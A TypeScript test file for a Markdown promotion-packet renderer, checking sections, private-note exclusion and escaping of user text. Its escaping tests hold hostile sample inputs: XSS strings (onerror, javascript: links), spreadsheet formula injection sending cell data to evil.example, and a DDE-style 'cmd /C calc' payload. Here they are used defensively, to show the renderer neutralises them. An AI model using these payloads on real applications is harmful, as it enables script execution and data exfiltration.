/**
 * shared/packet.ts: the Markdown promotion packet the panel exports (the
 * share link's packet.md is the same renderer: tests/worker/render-packet.test.ts),
 * on evidence built from the real fixtures in tests/fixtures/github and tests/fixtures/jira (see
 * tests/fixtures/SOURCES.md) plus manual entries.
 */
import { describe, expect, it } from 'vitest';
import { casePacketMarkdown, escapeMarkdownInline, renderPacketMarkdown, toCard } from '../../shared/packet';
import { formatDay } from '../../shared/case';
import { SENIOR_ENGINEER } from '../../shared/rubric';
import type { Evidence, Rubric, WeeklyLog } from '../../shared/schemas';
import pr327 from '../fixtures/github/rest-pull-merged-artsy-emission-327.json';
import pr671 from '../fixtures/github/rest-pull-merged-github3py-671.json';
import reviews671 from '../fixtures/github/rest-pull-reviews-github3py-671.json';
import jiraTes41 from '../fixtures/jira/webhook-cloud-issue-updated-story-done-TES-41.json';

const PRIVATE_MARK = 'PRIVATE-NOTE-do-not-share';
let seq = 0;

/** An evidence item with a private note planted on it. */
function item(fields: Partial<Evidence> & Pick<Evidence, 'title' | 'occurredOn' | 'kind' | 'role'>): Evidence {
  seq += 1;
  return {
    id: `01HV${String(seq).padStart(22, '0')}`,
    source: 'manual',
    url: '',
    capturedAt: `${fields.occurredOn}T10:00:00.000Z`,
    claim: '',
    impact: '',
    metrics: [],
    competencies: [],
    tags: [],
    people: [],
    meta: {},
    privateNote: `${PRIVATE_MARK}: salary talk`,
    updatedAt: `${fields.occurredOn}T10:00:00.000Z-0000-dev1`,
    deletedAt: null,
    ...fields,
  };
}

const reviewers671 = new Set(reviews671.map((r) => r.user?.login).filter(Boolean)).size;

/** Six items from the fixtures (github3py#671 reviewed, artsy/emission#327 authored, Jira TES-41) and manual entries. */
const evidence: Evidence[] = [
  item({
    source: 'github-pr',
    kind: 'code-review',
    role: 'reviewer',
    url: pr671.html_url,
    title: pr671.title,
    occurredOn: (pr671.merged_at ?? '').slice(0, 10),
    claim: 'I reviewed the pull request reviews API support and asked for pagination and a test cassette.',
    impact: `${reviews671.length} review rounds with ${reviewers671} reviewers; shipped with tests.`,
    metrics: [
      { label: 'Review comments', value: pr671.review_comments },
      { label: 'Lines added', value: pr671.additions },
    ],
    competencies: ['multiplier'],
    people: [pr671.user.login],
    meta: { repo: pr671.base.repo.full_name, number: pr671.number, state: 'merged' },
  }),
  item({
    source: 'github-pr',
    kind: 'pull-request',
    role: 'author',
    url: pr327.html_url,
    title: pr327.title,
    occurredOn: (pr327.merged_at ?? '').slice(0, 10),
    claim: 'I built the Gene view end to end, from API query to native view.',
    impact: 'Gene pages became browsable in the app for the autumn launch.',
    metrics: [{ label: 'Lines added', value: pr327.additions }],
    competencies: ['ownership', 'technical-leadership'],
    meta: { repo: pr327.base.repo.full_name, number: pr327.number, state: 'merged' },
  }),
  item({
    source: 'jira',
    kind: 'ticket',
    role: 'assignee',
    url: `https://some-instance-test.atlassian.net/browse/${jiraTes41.issue.key}`,
    title: `${jiraTes41.issue.key}: ${jiraTes41.issue.fields.summary}`,
    occurredOn: jiraTes41.issue.fields.resolutiondate.slice(0, 10),
    meta: { key: jiraTes41.issue.key },
  }),
  item({
    kind: 'design-doc',
    role: 'owner',
    title: 'Gitserver observability: one-page problem statement',
    occurredOn: '2019-03-20',
    claim: 'I wrote the problem statement and drove the team to pick tracing over more logging.',
    impact: 'Agreed in one review meeting.',
    competencies: ['ambiguity', 'communication'],
  }),
  item({
    kind: 'mentoring',
    role: 'mentor',
    title: 'Weekly pairing with a new teammate on the search backend',
    occurredOn: '2019-01-15',
    competencies: ['multiplier'],
  }),
  item({
    kind: 'other',
    role: 'owner',
    title: 'Said no to shipping code intelligence without rate limits',
    occurredOn: '2019-04-10',
    competencies: ['judgment'],
  }),
];

const weeklyLogs: WeeklyLog[] = [
  {
    id: '01HV00000000000000000000W1',
    week: '2019-W15',
    shipped: 'Rate limits for code intelligence.',
    decisions: '',
    helped: '',
    impact: '',
    updatedAt: '2019-04-12T16:00:00.000Z-0000-dev1',
    deletedAt: null,
  },
  {
    id: '01HV00000000000000000000W2',
    week: '2019-W14',
    shipped: 'Problem statement reviewed <em>and agreed</em>.',
    decisions: '',
    helped: '',
    impact: '',
    updatedAt: '2019-04-05T16:00:00.000Z-0000-dev1',
    deletedAt: null,
  },
];

const GENERATED = '2019-04-20T10:00:00.000Z';
const md = casePacketMarkdown({
  ownerName: 'Ada Example',
  rubric: SENIOR_ENGINEER,
  evidence,
  weeklyLogs,
  generatedAt: GENERATED,
});
const lines = md.split('\n');

/** Every inline link destination `[...](<dest>)` or `[...](dest)` formed by an unescaped `]`. */
function linkDestinations(text: string): string[] {
  return [...text.matchAll(/(?<!\\)\]\((<[^>]*>|[^)\s]*)\)/g)].map((m) => (m[1] ?? '').replace(/^<|>$/g, ''));
}

/** Unescaped occurrences of `ch` (not preceded by an odd number of backslashes). */
function unescaped(text: string, ch: string): number {
  let count = 0;
  for (let i = text.indexOf(ch); i >= 0; i = text.indexOf(ch, i + 1)) {
    let slashes = 0;
    for (let j = i - 1; j >= 0 && text[j] === '\\'; j--) slashes += 1;
    if (slashes % 2 === 0) count += 1;
  }
  return count;
}

/** A valid evidence item with `over` on top (a hostile user's text, say). */
function evil(over: Partial<Evidence>): Evidence {
  return { ...(evidence[0] as Evidence), id: '01HV0000000000000000000E01', ...over };
}

describe('casePacketMarkdown', () => {
  it('opens with the owner, rubric, period and count, then the calibration questions', () => {
    expect(lines.slice(0, 7)).toEqual([
      '# Ada Example: promotion case',
      '',
      'Rubric: Senior software engineer · Period: All time · 6 items',
      '',
      'Generated 20 Apr 2019 by Casebook. Private notes are never included.',
      '',
      '## Calibration summary',
    ]);
    const questions = lines.filter((l) => l.startsWith('### ') && l.endsWith('?'));
    expect(questions).toEqual([
      '### What have they done that is clearly at the next level?',
      '### Where is their impact on the team, beyond their own tasks?',
      '### Where is their technical leadership beyond their own code?',
      '### Is this sustained performance, or one good quarter?',
    ]);
    const i = lines.indexOf('### Where is their technical leadership beyond their own code?');
    expect(lines.slice(i + 2, i + 7)).toEqual([
      '1 item tagged Technical leadership; 1 design doc.',
      '',
      '- Gitserver observability: one-page problem statement (20 Mar 2019)',
      `- [${pr327.title}](<${pr327.html_url}>) (${formatDay((pr327.merged_at ?? '').slice(0, 10))})`,
      '',
    ]);
  });

  it('then goes by competency with one bullet per item: link, date, role, claim, impact, metrics', () => {
    expect(lines.filter((l) => l.startsWith('## '))).toEqual([
      '## Calibration summary',
      '## Ownership and scope (1 item)',
      '## Navigating ambiguity (1 item)',
      '## Multiplying others (2 items)',
      '## Technical leadership (1 item)',
      '## Communication and influence (1 item)',
      '## Judgment and autonomy (1 item)',
      '## Untagged (1 item)',
      '## Weekly logs',
      '## Timeline',
    ]);
    expect(md).toContain(
      [
        '- **[Add support for fetching pull request reviews](<https://github.com/sigmavirus24/github3.py/pull/671>)** · 27 Jan 2017 · Reviewer · Code review · GitHub PR · sigmavirus24/github3.py#671',
        '  - **Claim:** I reviewed the pull request reviews API support and asked for pagination and a test cassette.',
        `  - **Impact:** ${reviews671.length} review rounds with ${reviewers671} reviewers; shipped with tests.`,
        `  - **Metrics:** Review comments: ${pr671.review_comments}; Lines added: ${pr671.additions}`,
        `  - **With:** ${pr671.user.login}`,
      ].join('\n'),
    );
    expect(md).toContain('| Multiplying others | 2 | 15 Jan 2019 | Thin |');
    expect(md).toContain('- **What did you ship?** Problem statement reviewed \\<em\\>and agreed\\</em\\>.');
  });

  it('is the same renderer as the share packet, with the label as the only difference', () => {
    const shared = renderPacketMarkdown({
      ownerName: 'Ada Example',
      label: 'H1 2019 calibration',
      scope: {},
      rubric: SENIOR_ENGINEER,
      evidence,
      weeklyLogs,
      generatedAt: GENERATED,
    }).split('\n');
    expect(shared[2]).toBe(`**H1 2019 calibration** · ${lines[2]}`);
    expect(shared.filter((_, i) => i !== 2)).toEqual(lines.filter((_, i) => i !== 2));
  });

  it('never contains a private note', () => {
    expect(evidence.every((e) => e.privateNote.includes(PRIVATE_MARK))).toBe(true);
    expect(md).not.toContain(PRIVATE_MARK);
    const leaky = evidence.map((e) => ({ ...e, meta: { ...e.meta, privateNote: PRIVATE_MARK } }));
    expect(
      casePacketMarkdown({ ownerName: 'A', rubric: SENIOR_ENGINEER, evidence: leaky, generatedAt: GENERATED }),
    ).not.toContain(PRIVATE_MARK);
    expect(Object.keys(toCard(evidence[0] as Evidence))).not.toContain('privateNote');
  });

  it('keeps only non-deleted evidence and weekly logs within from..to', () => {
    const deleted = evil({ title: 'Deleted item', occurredOn: '2019-04-10', deletedAt: '2019-04-12T00:00:00.000Z' });
    const out = casePacketMarkdown({
      ownerName: 'Ada Example',
      rubric: SENIOR_ENGINEER,
      evidence: [...evidence, deleted],
      weeklyLogs: [
        ...weeklyLogs,
        { ...(weeklyLogs[0] as WeeklyLog), week: '2019-W16', deletedAt: '2019-04-19T00:00:00.000Z' },
      ],
      from: '2019-04-07',
      to: '2019-04-20',
      generatedAt: GENERATED,
    });
    expect(out.split('\n')[2]).toBe('Rubric: Senior software engineer · Period: 7 Apr 2019 to 20 Apr 2019 · 1 item');
    expect(out).toContain('Said no to shipping code intelligence without rate limits');
    expect(out).not.toContain('Deleted item');
    expect(out).not.toContain('Add support for fetching pull request reviews');
    // 2019-W14 (1 to 7 Apr) overlaps the period by one day; the deleted 2019-W16 is left out.
    expect(out.split('\n').filter((l) => l.startsWith('### Week'))).toEqual([
      '### Week 15, 2019 (8 Apr to 14 Apr)',
      '### Week 14, 2019 (1 Apr to 7 Apr)',
    ]);
  });

  it('works with no evidence', () => {
    const out = casePacketMarkdown({
      ownerName: 'New Hire',
      rubric: SENIOR_ENGINEER,
      evidence: [],
      generatedAt: GENERATED,
    });
    expect(out).toContain('Rubric: Senior software engineer · Period: All time · 0 items');
    expect(out.match(/No evidence yet\./g)).toHaveLength(4);
    expect(out.match(/No evidence in this period\./g)).toHaveLength(6);
    expect(out).not.toContain('## Timeline');
    expect(out.endsWith('\n')).toBe(true);
  });
});

describe('escaping user text', () => {
  const hostileRubric: Rubric = {
    id: 'acme',
    name: 'Acme <img src=x onerror=alert(1)>',
    competencies: [
      {
        id: 'craft',
        name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        description: '[x](javascript:alert(1))',
        signals: [],
      },
      { id: 'ops', name: '@SUM(1+1)*cmd|" /C calc"!A0', description: '', signals: [] },
    ],
  };
  const items = [
    evil({
      title: '[x](javascript:alert(1))',
      url: 'https://github.com/sourcegraph/sourcegraph/pull/3257',
      competencies: ['craft'],
      claim: '=HYPERLINK("https://evil.example","pay") and ![img](https://evil.example/t.png)',
      impact: '<a href="javascript:alert(1)">x</a>\n+ 1\n@here &amp; &#106;avascript:x',
      people: ['[Bob](https://evil.example)'],
      metrics: [{ label: '<b>p95</b>', value: 450, unit: 'ms' }],
    }),
    evil({
      id: '01HV0000000000000000000E02',
      title: '=HYPERLINK("https://evil.example","Click")',
      url: 'https://example.com/a b>c\\d',
      competencies: ['ops'],
    }),
  ];
  const out = casePacketMarkdown({
    ownerName: '# Mallory [me](https://evil.example)',
    rubric: hostileRubric,
    evidence: items,
    generatedAt: GENERATED,
  });

  it('forms no link but the evidence sources, and no javascript: anywhere', () => {
    const dests = linkDestinations(out);
    expect(dests.length).toBeGreaterThan(0);
    for (const d of dests)
      expect(['https://github.com/sourcegraph/sourcegraph/pull/3257', 'https://example.com/a%20b%3Ec%5Cd']).toContain(
        d,
      );
    expect(out).not.toMatch(/javascript:/i);
    expect(out).toContain('\\[x\\](javascript\\:alert(1))');
    expect(unescaped(out, '![')).toBe(0);
  });

  it('forms no HTML, no entity and no heading from user text', () => {
    expect(unescaped(out, '<img')).toBe(0);
    expect(unescaped(out, '<a ')).toBe(0);
    expect(unescaped(out, '&')).toBe(0);
    expect(out.split('\n')[0]).toBe('# \\# Mallory \\[me\\](https\\://evil.example): promotion case');
    expect(out).toContain('    \\+ 1  \n    \\@here');
  });

  it('makes formulas inert in table cells and at the start of titles', () => {
    const rows = out
      .split('\n')
      .filter((l) => l.startsWith('| ') && !l.startsWith('| Competency') && !l.startsWith('| ---'));
    expect(rows).toEqual([
      '| \\=HYPERLINK("https\\://evil.example/?"\\&A1,"Click") | 1 | 27 Jan 2017 | Thin |',
      '| \\@SUM(1+1)\\*cmd\\|" /C calc"!A0 | 1 | 27 Jan 2017 | Thin |',
    ]);
    for (const row of rows)
      for (const cell of row.split(/(?<!\\)\|/).slice(1, -1)) expect(cell.trim()).not.toMatch(/^[=+\-@]/);
    expect(out).toContain(
      '- **[\\=HYPERLINK("https\\://evil.example","Click")](<https://example.com/a%20b%3Ec%5Cd>)**',
    );
    expect(out).toContain('  - **Claim:** \\=HYPERLINK(');
  });

  it('keeps the rendered text: every escape is a backslash before ASCII punctuation', () => {
    const text = '=a [b] <c> & d | e ~ f `g` *h* _i_ javascript:j www.k https://l';
    const escaped = escapeMarkdownInline(text);
    expect(escaped.replace(/\\([!-/:-@[-`{-~])/g, '$1')).toBe(text);
  });
});

describe('renderPacketMarkdown', () => {
  it('restricts sections to the scoped competencies', () => {
    const out = renderPacketMarkdown({
      ownerName: 'Ada',
      scope: { competencies: ['multiplier'] },
      rubric: SENIOR_ENGINEER,
      evidence,
      weeklyLogs: [],
      generatedAt: GENERATED,
    });
    expect(out.split('\n').filter((l) => l.startsWith('## '))).toEqual([
      '## Calibration summary',
      '## Multiplying others (2 items)',
      '## Untagged (1 item)',
      '## Timeline',
    ]);
  });
});
